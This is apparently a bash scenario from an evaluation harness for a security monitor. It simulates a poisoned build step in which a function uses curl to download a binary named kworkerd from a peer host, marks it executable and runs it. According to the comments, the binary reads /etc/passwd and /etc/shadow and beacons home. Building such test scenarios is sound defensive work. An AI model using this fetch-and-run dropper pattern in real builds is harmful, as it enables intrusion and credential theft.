# shellcheck shell=bash
# dropper: the build workload; then a poisoned build step downloads a
# binary with curl from a new peer (:8000 in the peer namespace), makes it
# executable and runs it: it runs id, uname, cat /etc/passwd and
# /etc/shadow, then beacons home every second (tools/eval/workloads/dropper.c).
. "$EVAL_DIR/workloads/build.sh"
SC_IDX=6
SC_DESC="C build (cc) in 3 modes; attack: curl downloads a binary, runs it: id/uname/cat /etc/passwd, then a beacon per second"
SC_TOOLS="cc curl kworkerd(dropper.c) sh id uname cat hostname"
SC_ATTACKER="curl kworkerd sh id uname cat hostname"

sc_attack_setup() {
	mkdir -p "$WORK/srv"
	cc -O2 -o "$WORK/srv/kworkerd" "$EVAL_DIR/workloads/dropper.c" ||
		die "cannot build the dropped binary"
	(cd "$WORK/srv" && peer_spawn "$PY" "$EVAL_DIR/workloads/sink.py" "$PEER_IP" 8000)
}
dropper_attacker() {
	local d="$WORK/.x"
	mkdir -p "$d" && cd "$d" || return
	curl -s --max-time 3 -o kworkerd "http://$PEER_IP:8000/kworkerd" &&
		chmod +x kworkerd && exec ./kworkerd "$PEER_IP" 8000 12 > /dev/null 2>&1
}
sc_attack() { cg_fn dropper_attacker; }
